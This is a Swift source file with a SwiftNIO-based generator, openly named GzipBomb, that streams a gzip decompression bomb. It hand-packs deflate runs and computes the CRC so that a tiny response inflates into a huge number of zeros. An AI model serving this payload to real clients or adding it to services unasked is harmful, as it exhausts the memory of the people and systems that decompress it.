import NIOCore

/// Zeros in gzip, made while they are sent.
///
/// Deflate's fixed code says "258 times the byte before" in 13 bits. After the first zero, which
/// leaves three bits of a byte, eight of these make thirteen bytes that are always the same.
/// (RFC 1951, 3.2.6, and RFC 1952.)
struct GzipBomb: Sendable {
    /// At least one.
    let zeros: Int

    private static let runLength = 258
    private static let runsPerPiece = 8 * 512
    private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

    /// How many runs follow the first zero, and how many single zeros follow them.
    private var parts: (runs: Int, rest: Int) {
        let (runs, rest) = (zeros - 1).quotientAndRemainder(dividingBy: Self.runLength)
        return (runs, rest)
    }

    /// How many bytes are sent.
    var compressedCount: Int {
        let bits = 3 + 8 + 13 * parts.runs + 8 * parts.rest + 7
        return Self.header.count + (bits + 7) / 8 + 8
    }

    /// Hands over all bytes, piece by piece.
    func write(_ send: (ByteBuffer) async throws -> Void) async throws {
        var bits = BitBuffer(bytes: Self.header)
        bits.append(0b011, count: 3)
        bits.appendZero()
        let (pieces, runs) = parts.runs.quotientAndRemainder(dividingBy: Self.runsPerPiece)
        try await send(ByteBuffer(bytes: bits.takeBytes()))
        var piece = bits
        piece.appendRuns(Self.runsPerPiece)
        let buffer = ByteBuffer(bytes: piece.takeBytes())
        for _ in 0..<pieces { try await send(buffer) }
        bits.appendRuns(runs)
        for _ in 0..<parts.rest { bits.appendZero() }
        bits.append(0, count: 7)
        bits.pad()
        bits.append(Self.checksum(ofZeros: zeros), count: 32)
        bits.append(UInt32(truncatingIfNeeded: zeros), count: 32)
        try await send(ByteBuffer(bytes: bits.takeBytes()))
    }

    /// CRC-32 of so many zero bytes. Each multiplies the register by x^8, so squaring gets there.
    static func checksum(ofZeros count: Int) -> UInt32 {
        var register: UInt32 = 0xFFFF_FFFF
        var power: UInt32 = 0x0080_0000
        var rest = count
        while rest > 0 {
            if rest & 1 == 1 { register = multiply(register, power) }
            power = multiply(power, power)
            rest >>= 1
        }
        return ~register
    }

    /// Product of polynomials over GF(2), lowest power in the highest bit, modulo CRC-32's.
    private static func multiply(_ a: UInt32, _ b: UInt32) -> UInt32 {
        var product: UInt32 = 0
        var b = b
        for place in 0..<32 {
            if a & (0x8000_0000 >> UInt32(place)) != 0 { product ^= b }
            b = b & 1 == 1 ? (b >> 1) ^ 0xEDB8_8320 : b >> 1
        }
        return product
    }
}

/// Bits as deflate packs them: from the lowest of each byte.
private struct BitBuffer {
    private var bytes: [UInt8]
    private var pending: UInt64 = 0
    private var pendingCount = 0

    init(bytes: [UInt8]) { self.bytes = bytes }

    mutating func append(_ bits: UInt32, count: Int) {
        pending |= UInt64(bits) << UInt64(pendingCount)
        pendingCount += count
        while pendingCount >= 8 {
            bytes.append(UInt8(truncatingIfNeeded: pending))
            pending >>= 8
            pendingCount -= 8
        }
    }

    /// The byte 0: code 00110000, which deflate packs from its highest bit.
    mutating func appendZero() { append(0b0000_1100, count: 8) }

    /// Length 258, code 11000101, at distance 1, code 00000.
    mutating func appendRuns(_ count: Int) {
        for _ in 0..<count { append(0b0_0000_1010_0011, count: 13) }
    }

    mutating func pad() { append(0, count: (8 - pendingCount) % 8) }

    mutating func takeBytes() -> [UInt8] {
        defer { bytes = [] }
        return bytes
    }
}
